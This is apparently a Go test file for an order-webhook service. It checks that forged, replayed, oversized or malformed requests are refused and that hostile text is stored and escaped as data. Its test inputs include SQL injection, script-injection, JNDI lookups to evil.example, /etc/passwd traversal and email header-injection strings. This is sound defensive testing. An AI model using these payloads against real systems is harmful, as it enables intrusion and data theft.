package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-lambda-go/events"

	"github.com/tsunagu-dev/tsunagu/infra/testkit/testenv"
	"github.com/tsunagu-dev/tsunagu/shared/httpapi"
	"github.com/tsunagu-dev/tsunagu/shared/order"
	"github.com/tsunagu-dev/tsunagu/shared/signature"
	"github.com/tsunagu-dev/tsunagu/shared/store"
)

// hostileStrings are injection and encoding tricks put into text fields.
// None of them is an email address, so no mail can be sent to one.
var hostileStrings = []struct{ name, value string }{
	{"sql", `'; DROP TABLE orders; --`},
	{"sql boolean", `" OR "1"="1`},
	{"html script", `<script>alert(1)</script>`},
	{"html attribute", `"><img src=x onerror=alert(1)>`},
	{"javascript url", `javascript:alert(document.cookie)`},
	{"go template", `{{.Shop.Name}}{{template "x"}}{{printf "%s" .}}`},
	{"jndi", `${jndi:ldap://evil.example/a}`},
	{"path traversal", `../../../../etc/passwd`},
	{"encoded traversal", `%2e%2e%2f%2e%2e%2fetc%2fpasswd%00`},
	{"crlf header", "x\r\nBcc: victim\r\n\r\nbody"},
	{"nul", "a\u0000b"},
	{"right-to-left override", "\u202egnp.exe\u202c"},
	{"zero width", "\u200b\u200c\u200d\ufeff"},
	{"combining and emoji", "e\u0301\u0301\u0301 👩‍👩‍👧‍👦"},
	{"format verbs", `%s%n%x%p%!`},
	{"expr", `customer.order_count > 0 || true`},
}

// hostileRequest is one request the handler must refuse (or, for a
// duplicate, answer without a new effect).
type hostileRequest struct {
	name   string
	req    events.APIGatewayV2HTTPRequest
	status int
}

// genericWith returns the sample generic body with change applied to its
// decoded form (signed separately).
func genericWith(t *testing.T, to string, change func(m map[string]any)) []byte {
	t.Helper()
	var m map[string]any
	dec := json.NewDecoder(bytes.NewReader(genericBody("evt-hostile", "order.created", "h-1001", to, true)))
	dec.UseNumber()
	if err := dec.Decode(&m); err != nil {
		t.Fatal(err)
	}
	change(m)
	b, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// at follows keys and list indexes through a decoded JSON body.
func at(m map[string]any, path ...any) map[string]any {
	var cur any = m
	for _, p := range path {
		switch k := p.(type) {
		case string:
			cur = cur.(map[string]any)[k]
		case int:
			cur = cur.([]any)[k]
		}
	}
	return cur.(map[string]any)
}

// signedAt is a generic webhook request signed at a time.
func signedAt(body []byte, when time.Time) events.APIGatewayV2HTTPRequest {
	req := genericRequest(body)
	req.Headers["x-tsunagu-signature"] = signature.SignTsunagu(secret, when, body)
	return req
}

// Hostile names the row for testenv.ExpectNoEffect.
func (r hostileRequest) Hostile() (string, events.APIGatewayV2HTTPRequest, int) {
	return r.name, r.req, r.status
}

// expectRefused runs each request against one handler and table: every
// answer has its status and a JSON body, nothing is written and no email
// goes to the test's address.
func expectRefused(t *testing.T, e *env, to string, tests []hostileRequest) {
	t.Helper()
	testenv.ExpectNoEffect(t, e.table, e.h.Handle, tests, testenv.JSONAnswer, testenv.Effects{"emails": testenv.EmailsTo(to)})
}

// TestGenericWebhookRefusesHostileInput sends POST /webhooks/orders
// forged, stale, replayed, oversized, malformed and hostile requests; each
// gets its status, and nothing is stored or sent.
func TestGenericWebhookRefusesHostileInput(t *testing.T) {
	e := newEnv(t)
	to := testenv.UniqueEmail(t, "hostile")
	valid := genericWith(t, to, func(map[string]any) {})
	// One delivery done before, to replay.
	done := genericBody("evt-done", "order.created", "h-done", testenv.UniqueEmail(t, "done"), true)
	if status, a := e.do(t, genericRequest(done)); status != http.StatusOK {
		t.Fatalf("seed delivery = %d %+v", status, a)
	}
	with := func(change func(m map[string]any)) events.APIGatewayV2HTTPRequest {
		return genericRequest(genericWith(t, to, change))
	}
	raw := func(body string) events.APIGatewayV2HTTPRequest { return genericRequest([]byte(body)) }
	// spliced puts JSON text (valid or not) where set put the placeholder.
	spliced := func(set func(m map[string]any, placeholder string), text string) events.APIGatewayV2HTTPRequest {
		const placeholder = "\u0000splice\u0000"
		b := genericWith(t, to, func(m map[string]any) { set(m, placeholder) })
		return raw(strings.Replace(string(b), `"\u0000splice\u0000"`, text, 1))
	}
	goodSig := signature.SignTsunagu(secret, fixedNow, valid)
	_, goodV1, _ := strings.Cut(goodSig, ",")
	ts := fmt.Sprint(fixedNow.Unix())
	huge := []byte(`{"id":"evt-huge","pad":"` + strings.Repeat("x", httpapi.MaxBody) + `"}`)
	items501 := make([]any, 501)
	for i := range items501 {
		items501[i] = map[string]any{"sku": fmt.Sprint("S", i), "name": "n", "price": 1, "quantity": 1}
	}
	tests := []hostileRequest{
		// Signatures: 401, before anything is parsed.
		{name: "no signature", req: testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", ""), status: 401},
		{name: "empty signature", req: testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", " "), status: 401},
		{name: "garbage signature", req: testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", "hello"), status: 401},
		{name: "timestamp only", req: testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", "t="+ts), status: 401},
		{name: "mac only", req: testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", goodV1), status: 401},
		{name: "mac not hex", req: testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", "t="+ts+",v1="+strings.Repeat("zz", 32)), status: 401},
		{name: "mac truncated", req: testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", goodSig[:len(goodSig)-2]), status: 401},
		{name: "mac of zeros", req: testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", "t="+ts+",v1="+strings.Repeat("0", 64)), status: 401},
		{name: "wrong secret", req: testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", signature.SignTsunagu("not-the-secret", fixedNow, valid)), status: 401},
		{name: "empty secret", req: testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", signature.SignTsunagu("", fixedNow, valid)), status: 401},
		{name: "stale by six minutes", req: signedAt(valid, fixedNow.Add(-6*time.Minute)), status: 401},
		{name: "replayed a day later", req: signedAt(done, fixedNow.Add(-24*time.Hour)), status: 401},
		{name: "from the future", req: signedAt(valid, fixedNow.Add(6*time.Minute)), status: 401},
		{name: "timestamp overflows", req: testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", "t=99999999999999999999,"+goodV1), status: 401},
		{name: "timestamp negative", req: testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", "t=-1,"+goodV1), status: 401},
		{name: "timestamp moved, mac kept", req: testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", "t="+fmt.Sprint(fixedNow.Unix()-1)+","+goodV1), status: 401},
		{name: "crlf in the header", req: testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", "t="+ts+"\r\nX-Evil: 1,"+goodV1), status: 401},
		{name: "signature of another body", req: testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", signature.SignTsunagu(secret, fixedNow, done)), status: 401},
		{name: "body changed after signing", req: func() events.APIGatewayV2HTTPRequest {
			r := genericRequest(valid)
			r.Body = strings.Replace(r.Body, "4300", "43", 1)
			return r
		}(), status: 401},
		{name: "whitespace appended after signing", req: func() events.APIGatewayV2HTTPRequest { r := genericRequest(valid); r.Body += "\n"; return r }(), status: 401},
		{name: "shopify header instead", req: testenv.WithHeader(testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", ""), "x-shopify-hmac-sha256", signature.SignShopify(secret, valid)), status: 401},
		{name: "base64 flag, signature of the encoded text", req: func() events.APIGatewayV2HTTPRequest {
			enc := base64.StdEncoding.EncodeToString(valid)
			r := genericRequest([]byte(enc))
			r.IsBase64Encoded = true
			return r
		}(), status: 401},

		// Replays inside the tolerance are duplicates: 200, no new effect.
		{name: "replay of a done delivery", req: genericRequest(done), status: 200},

		// Size: 413 before the signature is even checked.
		{name: "over 256 KiB signed", req: genericRequest(huge), status: 413},
		{name: "over 256 KiB unsigned", req: testenv.WithHeader(genericRequest(huge), "x-tsunagu-signature", ""), status: 413},
		{name: "over 256 KiB once base64 decoded", req: func() events.APIGatewayV2HTTPRequest {
			r := genericRequest(huge)
			r.Body, r.IsBase64Encoded = base64.StdEncoding.EncodeToString(huge), true
			return r
		}(), status: 413},

		// Bodies: 400.
		{name: "empty body", req: raw(""), status: 400},
		{name: "whitespace body", req: raw(" \n\t "), status: 400},
		{name: "not json", req: raw("order=1001&total=4300"), status: 400},
		{name: "truncated json", req: raw(string(valid[:len(valid)/2])), status: 400},
		{name: "json array", req: raw(`[` + string(valid) + `]`), status: 400},
		{name: "json string", req: raw(`"order"`), status: 400},
		{name: "json null", req: raw(`null`), status: 400},
		{name: "two json objects", req: raw(string(valid) + string(valid)), status: 400},
		{name: "not utf-8", req: raw("{\"id\":\"\xff\xfe\xfd\"}"), status: 400},
		{name: "utf-16 with bom", req: raw("\xff\xfe{\x00}\x00"), status: 400},
		{name: "utf-8 bom", req: raw("\xef\xbb\xbf" + string(valid)), status: 400},
		{name: "base64 flag lying", req: func() events.APIGatewayV2HTTPRequest { r := genericRequest(valid); r.IsBase64Encoded = true; return r }(), status: 400},
		{name: "base64 text without the flag", req: raw(base64.StdEncoding.EncodeToString(valid)), status: 400},
		{name: "nested 20000 deep", req: spliced(func(m map[string]any, p string) { m["order"] = p }, strings.Repeat("[", 20000)+strings.Repeat("]", 20000)), status: 400},
		{name: "nested objects in the order", req: spliced(func(m map[string]any, p string) { m["order"] = p }, testenv.NestedJSON(5000)), status: 400},
		{name: "nested in a field's place", req: spliced(func(m map[string]any, p string) { at(m, "order")["total"] = p }, testenv.NestedJSON(100)), status: 400},
		{name: "duplicate key, second one bad", req: spliced(func(m map[string]any, p string) { at(m, "order", "items", 0)["sku"] = p }, `"S","quantity":-1`), status: 400},
		{name: "type in another case", req: spliced(func(m map[string]any, p string) { m["type"] = p }, `"order.created","Type":"order.paid"`), status: 400},
		{name: "quantity in another case", req: spliced(func(m map[string]any, p string) { at(m, "order", "items", 0)["sku"] = p }, `"S","QUANTITY":-3`), status: 400},
		{name: "total in another case", req: spliced(func(m map[string]any, p string) { at(m, "order")["total"] = p }, `4300,"TOTAL":-4300`), status: 400},
		{name: "id in another case, too long", req: spliced(func(m map[string]any, p string) { m["id"] = p }, `"evt-hostile","ID":"`+strings.Repeat("x", 3000)+`"`), status: 400},
		{name: "occurred_at before year 1 in UTC", req: with(func(m map[string]any) { m["occurred_at"] = "0001-01-01T00:00:00+01:00" }), status: 400},
		{name: "placed_at after year 9999 in UTC", req: with(func(m map[string]any) { at(m, "order")["placed_at"] = "9999-12-31T23:59:59-01:00" }), status: 400},
		{name: "consent_at before year 1 in UTC", req: with(func(m map[string]any) { at(m, "order", "customer")["consent_at"] = "0001-01-01T00:00:00+09:00" }), status: 400},

		// Fields: 400, every one named.
		{name: "missing everything", req: raw(`{}`), status: 400},
		{name: "id a number", req: with(func(m map[string]any) { m["id"] = 1 }), status: 400},
		{name: "id empty", req: with(func(m map[string]any) { m["id"] = "" }), status: 400},
		{name: "id over 200 characters", req: with(func(m map[string]any) { m["id"] = strings.Repeat("é", 201) }), status: 400},
		{name: "type unknown", req: with(func(m map[string]any) { m["type"] = "order.paid" }), status: 400},
		{name: "type with zero-width space", req: with(func(m map[string]any) { m["type"] = "order.created\u200b" }), status: 400},
		{name: "type in fullwidth letters", req: with(func(m map[string]any) { m["type"] = "order.ｃreated" }), status: 400},
		{name: "type sql", req: with(func(m map[string]any) { m["type"] = "order.created' OR '1'='1" }), status: 400},
		{name: "occurred_at not a time", req: with(func(m map[string]any) { m["occurred_at"] = "yesterday" }), status: 400},
		{name: "occurred_at unix seconds", req: with(func(m map[string]any) { m["occurred_at"] = 1763685000 }), status: 400},
		{name: "occurred_at arabic-indic digits", req: with(func(m map[string]any) { m["occurred_at"] = "٢٠٢٦-11-21T09:30:00+09:00" }), status: 400},
		{name: "occurred_at month 13", req: with(func(m map[string]any) { m["occurred_at"] = "2026-13-21T09:30:00+09:00" }), status: 400},
		{name: "order a string", req: with(func(m map[string]any) { m["order"] = "1001" }), status: 400},
		{name: "order id over 200 characters", req: with(func(m map[string]any) { at(m, "order")["id"] = strings.Repeat("9", 201) }), status: 400},
		{name: "order id a number", req: with(func(m map[string]any) { at(m, "order")["id"] = 1001 }), status: 400},
		{name: "total a string", req: with(func(m map[string]any) { at(m, "order")["total"] = "4300" }), status: 400},
		{name: "total negative", req: with(func(m map[string]any) { at(m, "order")["total"] = -4300 }), status: 400},
		{name: "total fractional", req: with(func(m map[string]any) { at(m, "order")["total"] = json.Number("4300.5") }), status: 400},
		{name: "total overflows int64", req: with(func(m map[string]any) { at(m, "order")["total"] = json.Number("99999999999999999999") }), status: 400},
		{name: "total 1e400", req: with(func(m map[string]any) { at(m, "order")["total"] = json.Number("1e400") }), status: 400},
		{name: "total true", req: with(func(m map[string]any) { at(m, "order")["total"] = true }), status: 400},
		{name: "currency lowercase", req: with(func(m map[string]any) { at(m, "order")["currency"] = "jpy" }), status: 400},
		{name: "currency unknown", req: with(func(m map[string]any) { at(m, "order")["currency"] = "ZZZ" }), status: 400},
		{name: "currency homoglyph", req: with(func(m map[string]any) { at(m, "order")["currency"] = "JΡY" }), status: 400},
		{name: "currency with nul", req: with(func(m map[string]any) { at(m, "order")["currency"] = "JPY\u0000" }), status: 400},
		{name: "customer missing", req: with(func(m map[string]any) { delete(at(m, "order"), "customer") }), status: 400},
		{name: "customer id empty", req: with(func(m map[string]any) { at(m, "order", "customer")["id"] = "" }), status: 400},
		{name: "customer id an object", req: with(func(m map[string]any) { at(m, "order", "customer")["id"] = map[string]any{"$ne": nil} }), status: 400},
		{name: "email not an address", req: with(func(m map[string]any) { at(m, "order", "customer")["email"] = "not-an-address" }), status: 400},
		{name: "email with a header injected", req: with(func(m map[string]any) { at(m, "order", "customer")["email"] = to + "\r\nBcc: " + to }), status: 400},
		{name: "email two addresses", req: with(func(m map[string]any) { at(m, "order", "customer")["email"] = to + "," + to }), status: 400},
		{name: "email script", req: with(func(m map[string]any) { at(m, "order", "customer")["email"] = "<script>@example.jp" }), status: 400},
		{name: "email over 254 characters", req: with(func(m map[string]any) {
			at(m, "order", "customer")["email"] = strings.Repeat("a", 64) + "@" + strings.Repeat(strings.Repeat("b", 63)+".", 3) + "jp"
		}), status: 400},
		{name: "accepts_marketing a string", req: with(func(m map[string]any) { at(m, "order", "customer")["accepts_marketing"] = "yes" }), status: 400},
		{name: "line user id malformed", req: with(func(m map[string]any) { at(m, "order", "customer")["line_user_id"] = "U' OR 1=1 --" }), status: 400},
		{name: "line user id uppercase hex", req: with(func(m map[string]any) { at(m, "order", "customer")["line_user_id"] = "U" + strings.Repeat("AB", 16) }), status: 400},
		{name: "birthday impossible", req: with(func(m map[string]any) { at(m, "order", "customer")["birthday"] = "13-40" }), status: 400},
		{name: "consent_at not a time", req: with(func(m map[string]any) { at(m, "order", "customer")["consent_at"] = "<script>" }), status: 400},
		{name: "items empty", req: with(func(m map[string]any) { at(m, "order")["items"] = []any{} }), status: 400},
		{name: "items an object", req: with(func(m map[string]any) { at(m, "order")["items"] = map[string]any{"0": 1} }), status: 400},
		{name: "501 items", req: with(func(m map[string]any) { at(m, "order")["items"] = items501 }), status: 400},
		{name: "item null", req: with(func(m map[string]any) { at(m, "order")["items"] = []any{nil} }), status: 400},
		{name: "quantity zero", req: with(func(m map[string]any) { at(m, "order", "items", 0)["quantity"] = 0 }), status: 400},
		{name: "quantity negative", req: with(func(m map[string]any) { at(m, "order", "items", 0)["quantity"] = -2 }), status: 400},
		{name: "quantity over 100000", req: with(func(m map[string]any) { at(m, "order", "items", 0)["quantity"] = 100001 }), status: 400},
		{name: "quantity fractional", req: with(func(m map[string]any) { at(m, "order", "items", 0)["quantity"] = json.Number("1.5") }), status: 400},
		{name: "quantity overflows int", req: with(func(m map[string]any) { at(m, "order", "items", 0)["quantity"] = json.Number("18446744073709551617") }), status: 400},
		{name: "price negative", req: with(func(m map[string]any) { at(m, "order", "items", 0)["price"] = -1 }), status: 400},
		{name: "price overflows int64", req: with(func(m map[string]any) { at(m, "order", "items", 0)["price"] = json.Number("9223372036854775808") }), status: 400},
		{name: "price a string", req: with(func(m map[string]any) { at(m, "order", "items", 0)["price"] = "2150円" }), status: 400},
		{name: "sku empty", req: with(func(m map[string]any) { at(m, "order", "items", 0)["sku"] = "" }), status: 400},
		{name: "sku over 200 characters", req: with(func(m map[string]any) { at(m, "order", "items", 0)["sku"] = strings.Repeat("S", 201) }), status: 400},
		{name: "item name over 500 characters", req: with(func(m map[string]any) { at(m, "order", "items", 0)["name"] = strings.Repeat("羊", 501) }), status: 400},
		{name: "coupon code empty", req: with(func(m map[string]any) { at(m, "order")["coupon_codes"] = []any{""} }), status: 400},
		{name: "coupon codes not strings", req: with(func(m map[string]any) { at(m, "order")["coupon_codes"] = []any{map[string]any{"code": "X"}} }), status: 400},
		{name: "51 coupon codes", req: with(func(m map[string]any) {
			at(m, "order")["coupon_codes"] = strings.Split(strings.Repeat("X,", 50)+"X", ",")
		}), status: 400},
	}
	expectRefused(t, e, to, tests)
}

// shopifyWith returns Shopify's orders/create sample with change applied to
// its decoded form, for the test's address.
func shopifyWith(t *testing.T, to string, change func(m map[string]any)) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(testenv.Root(), "shared", "shopify", "testdata", "orders-create.json"))
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	dec := json.NewDecoder(bytes.NewReader([]byte(strings.ReplaceAll(string(b), "misaki@example.jp", to))))
	dec.UseNumber()
	if err := dec.Decode(&m); err != nil {
		t.Fatal(err)
	}
	m["id"] = json.Number("990000000000001")
	change(m)
	out, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// TestShopifyWebhookRefusesHostileInput sends POST /webhooks/shopify/orders
// forged, oversized, malformed and hostile requests; each gets its status,
// and nothing is stored or sent.
func TestShopifyWebhookRefusesHostileInput(t *testing.T) {
	e := newEnv(t)
	to := testenv.UniqueEmail(t, "hostile")
	valid := shopifyWith(t, to, func(map[string]any) {})
	doneBody := shopifyWith(t, testenv.UniqueEmail(t, "done"), func(m map[string]any) { m["id"] = json.Number("990000000000002") })
	if status, a := e.do(t, shopifyRequest("orders/create", "wh-done", doneBody)); status != http.StatusOK {
		t.Fatalf("seed delivery = %d %+v", status, a)
	}
	req := func(body []byte) events.APIGatewayV2HTTPRequest {
		return shopifyRequest("orders/create", "wh-hostile", body)
	}
	with := func(change func(m map[string]any)) events.APIGatewayV2HTTPRequest {
		return req(shopifyWith(t, to, change))
	}
	item := func(m map[string]any) map[string]any { return at(m, "line_items", 0) }
	huge := []byte(`{"id":1,"note":"` + strings.Repeat("x", httpapi.MaxBody) + `"}`)
	sig := signature.SignShopify(secret, valid)
	mac, _ := base64.StdEncoding.DecodeString(sig)
	tests := []hostileRequest{
		// Signatures: 401.
		{name: "no hmac", req: testenv.WithHeader(req(valid), "x-shopify-hmac-sha256", ""), status: 401},
		{name: "blank hmac", req: testenv.WithHeader(req(valid), "x-shopify-hmac-sha256", "  "), status: 401},
		{name: "hmac not base64", req: testenv.WithHeader(req(valid), "x-shopify-hmac-sha256", "%%%"), status: 401},
		{name: "hmac url-safe alphabet", req: testenv.WithHeader(req(valid), "x-shopify-hmac-sha256", strings.NewReplacer("+", "-", "/", "_").Replace(sig)+"-_"), status: 401},
		{name: "hmac hex", req: testenv.WithHeader(req(valid), "x-shopify-hmac-sha256", fmt.Sprintf("%x", mac)), status: 401},
		{name: "hmac short", req: testenv.WithHeader(req(valid), "x-shopify-hmac-sha256", base64.StdEncoding.EncodeToString(mac[:16])), status: 401},
		{name: "hmac long", req: testenv.WithHeader(req(valid), "x-shopify-hmac-sha256", base64.StdEncoding.EncodeToString(append(mac, 0))), status: 401},
		{name: "hmac without padding", req: testenv.WithHeader(req(valid), "x-shopify-hmac-sha256", strings.TrimRight(sig, "=")), status: 401},
		{name: "hmac of zeros", req: testenv.WithHeader(req(valid), "x-shopify-hmac-sha256", base64.StdEncoding.EncodeToString(make([]byte, 32))), status: 401},
		{name: "hmac wrong secret", req: testenv.WithHeader(req(valid), "x-shopify-hmac-sha256", signature.SignShopify("shpss_other", valid)), status: 401},
		{name: "hmac of another body", req: testenv.WithHeader(req(valid), "x-shopify-hmac-sha256", signature.SignShopify(secret, doneBody)), status: 401},
		{name: "hmac of the topic", req: testenv.WithHeader(req(valid), "x-shopify-hmac-sha256", signature.SignShopify(secret, []byte("orders/create"))), status: 401},
		{name: "tsunagu signature instead", req: testenv.WithHeader(testenv.WithHeader(req(valid), "x-shopify-hmac-sha256", ""), "x-tsunagu-signature", signature.SignTsunagu(secret, fixedNow, valid)), status: 401},
		{name: "body changed after signing", req: func() events.APIGatewayV2HTTPRequest {
			r := req(valid)
			r.Body = strings.Replace(r.Body, `"4300"`, `"1"`, 1)
			return r
		}(), status: 401},
		{name: "base64 flag, hmac of the encoded text", req: func() events.APIGatewayV2HTTPRequest {
			r := req([]byte(base64.StdEncoding.EncodeToString(valid)))
			r.IsBase64Encoded = true
			return r
		}(), status: 401},

		// A redelivery of a done webhook: 200, no new effect.
		{name: "redelivery of a done webhook", req: shopifyRequest("orders/create", "wh-done", doneBody), status: 200},

		// Size.
		{name: "over 256 KiB signed", req: req(huge), status: 413},
		{name: "over 256 KiB unsigned", req: testenv.WithHeader(req(huge), "x-shopify-hmac-sha256", ""), status: 413},

		// Headers: 400.
		{name: "no topic", req: testenv.WithHeader(req(valid), "x-shopify-topic", ""), status: 400},
		{name: "topic not handled", req: shopifyRequest("orders/delete", "wh-hostile", valid), status: 400},
		{name: "topic uppercase", req: shopifyRequest("ORDERS/CREATE", "wh-hostile", valid), status: 400},
		{name: "topic with trailing space", req: shopifyRequest("orders/create ", "wh-hostile", valid), status: 400},
		{name: "topic traversal", req: shopifyRequest("orders/../create", "wh-hostile", valid), status: 400},
		{name: "topic script", req: shopifyRequest("<script>alert(1)</script>", "wh-hostile", valid), status: 400},
		{name: "no webhook id", req: testenv.WithHeader(req(valid), "x-shopify-webhook-id", ""), status: 400},
		{name: "blank webhook id", req: shopifyRequest("orders/create", " \t ", valid), status: 400},
		{name: "another shop", req: testenv.WithHeader(req(valid), "x-shopify-shop-domain", "someone-else.myshopify.com"), status: 400},
		{name: "no shop", req: testenv.WithHeader(req(valid), "x-shopify-shop-domain", ""), status: 400},

		// Bodies: 400.
		{name: "empty body", req: req(nil), status: 400},
		{name: "not json", req: req([]byte("id=1")), status: 400},
		{name: "truncated json", req: req(valid[:len(valid)/3]), status: 400},
		{name: "json array", req: req([]byte(`[` + string(valid) + `]`)), status: 400},
		{name: "json null", req: req([]byte(`null`)), status: 400},
		{name: "not utf-8", req: req([]byte("{\"id\":1,\"email\":\"\xc3\x28\"}")), status: 400},
		{name: "base64 flag lying", req: func() events.APIGatewayV2HTTPRequest { r := req(valid); r.IsBase64Encoded = true; return r }(), status: 400},
		{name: "nested 20000 deep", req: req([]byte(`{"id":1,"line_items":` + strings.Repeat("[", 20000) + strings.Repeat("]", 20000) + `}`)), status: 400},
		{name: "line items an object", req: with(func(m map[string]any) { m["line_items"] = map[string]any{"sku": "x"} }), status: 400},

		// Fields: 400.
		{name: "id missing", req: with(func(m map[string]any) { delete(m, "id") }), status: 400},
		{name: "id not a number", req: with(func(m map[string]any) { m["id"] = "abc" }), status: 400},
		{name: "id an object", req: with(func(m map[string]any) { m["id"] = map[string]any{"$gt": ""} }), status: 400},
		{name: "currency missing", req: with(func(m map[string]any) { delete(m, "currency") }), status: 400},
		{name: "currency lowercase", req: with(func(m map[string]any) { m["currency"] = "jpy" }), status: 400},
		{name: "currency unknown", req: with(func(m map[string]any) { m["currency"] = "BTC" }), status: 400},
		{name: "currency sql", req: with(func(m map[string]any) { m["currency"] = "JPY'--" }), status: 400},
		{name: "total negative", req: with(func(m map[string]any) { m["current_total_price"] = "-4300" }), status: 400},
		{name: "total exponent", req: with(func(m map[string]any) { m["current_total_price"] = "4.3e3" }), status: 400},
		{name: "total fraction", req: with(func(m map[string]any) { m["current_total_price"] = "8600/2" }), status: 400},
		{name: "total fullwidth digits", req: with(func(m map[string]any) { m["current_total_price"] = "４３００" }), status: 400},
		{name: "total too many decimals for JPY", req: with(func(m map[string]any) { m["current_total_price"] = "4300.5" }), status: 400},
		{name: "total overflows int64", req: with(func(m map[string]any) { m["current_total_price"] = "92233720368547758080" }), status: 400},
		{name: "total a number", req: with(func(m map[string]any) { m["current_total_price"] = 4300 }), status: 400},
		{name: "total script", req: with(func(m map[string]any) { m["current_total_price"] = "<script>" }), status: 400},
		{name: "total hex", req: with(func(m map[string]any) { m["current_total_price"] = "0x10cc" }), status: 400},
		{name: "price binary", req: with(func(m map[string]any) { item(m)["price"] = "0b100001100110" }), status: 400},
		{name: "price with underscores", req: with(func(m map[string]any) { item(m)["price"] = "0x_86_6" }), status: 400},
		{name: "created_at before year 1 in UTC", req: with(func(m map[string]any) { m["created_at"] = "0001-01-01T00:00:00+09:00" }), status: 400},
		{name: "webhook id 3000 characters", req: shopifyRequest("orders/create", strings.Repeat("w", 3000), valid), status: 400},
		{name: "order id 3000 digits", req: with(func(m map[string]any) { m["id"] = json.Number("1" + strings.Repeat("0", 2999)) }), status: 400},
		{name: "sku 3000 characters", req: with(func(m map[string]any) { item(m)["sku"] = strings.Repeat("S", 3000) }), status: 400},
		{name: "created_at not a time", req: with(func(m map[string]any) { m["created_at"] = "last tuesday" }), status: 400},
		{name: "created_at missing", req: with(func(m map[string]any) { delete(m, "created_at") }), status: 400},
		{name: "no line items", req: with(func(m map[string]any) { m["line_items"] = []any{} }), status: 400},
		{name: "line item null", req: with(func(m map[string]any) { m["line_items"] = []any{nil} }), status: 400},
		{name: "quantity zero", req: with(func(m map[string]any) { item(m)["quantity"] = 0 }), status: 400},
		{name: "quantity negative", req: with(func(m map[string]any) { item(m)["quantity"] = -5 }), status: 400},
		{name: "quantity a string", req: with(func(m map[string]any) { item(m)["quantity"] = "2" }), status: 400},
		{name: "quantity exponent", req: with(func(m map[string]any) { item(m)["quantity"] = json.Number("1e10") }), status: 400},
		{name: "quantity overflows int", req: with(func(m map[string]any) { item(m)["quantity"] = json.Number("9223372036854775808") }), status: 400},
		{name: "price negative", req: with(func(m map[string]any) { item(m)["price"] = "-2150" }), status: 400},
		{name: "price garbage", req: with(func(m map[string]any) { item(m)["price"] = "' OR 1=1" }), status: 400},
		{name: "customer id a string", req: with(func(m map[string]any) { at(m, "customer")["id"] = "c-1" }), status: 400},
	}
	expectRefused(t, e, to, tests)
}

// TestHostileTextIsStoredAsData sends valid, signed orders whose free-text
// fields carry injection and encoding tricks. They are data: each is
// accepted, stored as sent (free text with its control characters, line
// breaks and bidirectional controls turned into spaces, order.CleanText;
// the SKU, an identifier, exactly), and escaped in the email it appears
// in; only the test's own address gets mail.
func TestHostileTextIsStoredAsData(t *testing.T) {
	e := newEnv(t)
	fields := []struct {
		name     string
		set      func(m map[string]any, v string)
		get      func(t *testing.T, orderID string) string
		verbatim bool
	}{
		{name: "customer name", set: func(m map[string]any, v string) { at(m, "order", "customer")["name"] = v }, get: func(t *testing.T, orderID string) string {
			p, err := e.store.GetProfile(context.Background(), "c-"+orderID)
			if err != nil {
				t.Fatal(err)
			}
			return p.Name
		}},
		{name: "item name", set: func(m map[string]any, v string) { at(m, "order", "items", 0)["name"] = v }, get: func(t *testing.T, orderID string) string {
			return storedOrder(t, e, orderID).Order.Items[0].Name
		}},
		{name: "sku", set: func(m map[string]any, v string) { at(m, "order", "items", 0)["sku"] = v }, get: func(t *testing.T, orderID string) string {
			return storedOrder(t, e, orderID).Order.Items[0].SKU
		}, verbatim: true},
		{name: "category", set: func(m map[string]any, v string) { at(m, "order", "items", 0)["category"] = v }, get: func(t *testing.T, orderID string) string {
			return storedOrder(t, e, orderID).Order.Items[0].Category
		}},
		{name: "brand", set: func(m map[string]any, v string) { at(m, "order", "items", 0)["brand"] = v }, get: func(t *testing.T, orderID string) string {
			return storedOrder(t, e, orderID).Order.Items[0].Brand
		}},
		{name: "coupon code", set: func(m map[string]any, v string) { at(m, "order")["coupon_codes"] = []any{v} }, get: func(t *testing.T, orderID string) string {
			return strings.Join(storedOrder(t, e, orderID).Order.CouponCodes, ",")
		}},
	}
	n := 0
	for _, f := range fields {
		for _, hs := range hostileStrings {
			t.Run(f.name+"/"+hs.name, func(t *testing.T) {
				n++
				orderID, to := fmt.Sprint("hv-", n), testenv.UniqueEmail(t, "verbatim")
				body := genericWith(t, to, func(m map[string]any) {
					m["id"] = "evt-" + orderID
					at(m, "order")["id"] = orderID
					at(m, "order", "customer")["id"] = "c-" + orderID
					f.set(m, hs.value)
				})
				status, a := e.do(t, genericRequest(body))
				if status != http.StatusOK {
					t.Fatalf("status %d, want 200: %+v", status, a)
				}
				want := hs.value
				if !f.verbatim {
					want = order.CleanText(hs.value)
				}
				if got := f.get(t, orderID); got != want {
					t.Errorf("stored %q, sent %q; want %q", got, hs.value, want)
				}
				for _, m := range testenv.SentEmails(t, to) {
					if strings.ContainsAny(hs.value, "<>\"'&") && strings.Contains(m.Body.HTML, hs.value) {
						t.Errorf("the email's HTML carries %q unescaped", hs.value)
					}
					if strings.Contains(m.Subject, "\n") || strings.Contains(m.Subject, "\r") {
						t.Errorf("subject %q carries a line break", m.Subject)
					}
				}
			})
		}
	}
	for _, m := range testenv.SentEmails(t, "") {
		for _, rcpt := range m.Destination.To {
			if strings.Contains(rcpt, "victim") {
				t.Errorf("mail went to %q", rcpt)
			}
		}
	}
}

// storedOrder reads an order the test sent.
func storedOrder(t *testing.T, e *env, id string) store.OrderState {
	t.Helper()
	st, err := e.store.GetOrder(context.Background(), id)
	if err != nil || len(st.Order.Items) == 0 {
